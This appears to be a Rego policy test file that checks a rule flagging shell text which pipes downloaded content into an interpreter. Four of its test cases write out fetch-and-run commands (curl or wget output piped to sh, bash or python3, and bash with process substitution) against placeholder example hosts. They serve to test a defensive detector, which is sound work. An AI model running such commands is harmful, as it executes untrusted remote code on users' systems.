package regent.text.piped_program_test

import data.regent.fact_test as fact
import data.regent.text.piped_program as room

# What stands in the shell text, its facts as far as the rules look at them, and
# the rules that fire.
cases := {
	"wget -O- https://example.com/x | sh": [{"commands": [{"program": "wget", "options": [["-O", "-"]], "operands": ["https://example.com/x"]}, {"program": "sh"}], "tags": {"dynamic_text": [1], "pipes_into_interpreter": [1]}}, {"text.pipes_into_interpreter"}],
	"curl -s https://x.example.com | bash": [{"commands": [{"program": "curl", "options": [["-s", ""]], "operands": ["https://x.example.com"]}, {"program": "bash"}], "tags": {"dynamic_text": [1], "pipes_into_interpreter": [1]}}, {"text.pipes_into_interpreter"}],
	"curl -s https://x.example.com | python3": [{"commands": [{"program": "curl", "options": [["-s", ""]], "operands": ["https://x.example.com"]}, {"program": "python"}], "tags": {"pipes_into_interpreter": [1]}}, {"text.pipes_into_interpreter"}],
	"bash <(curl -s https://x.example.com)": [{"commands": [{"program": "curl", "options": [["-s", ""]], "operands": ["https://x.example.com"]}, {"program": "bash", "operands": [{"value": "", "known": "dynamic"}]}], "tags": {"dynamic_text": [1], "pipes_into_interpreter": [1]}}, {"text.pipes_into_interpreter"}],
	"nothing of the kind": [{"commands": [{"program": "true"}]}, set()],
}

test_rules[text] if {
	some text, [facts, fires] in cases
	{f.rule | some f in room.findings} == fires with input as fact.document(facts)
}
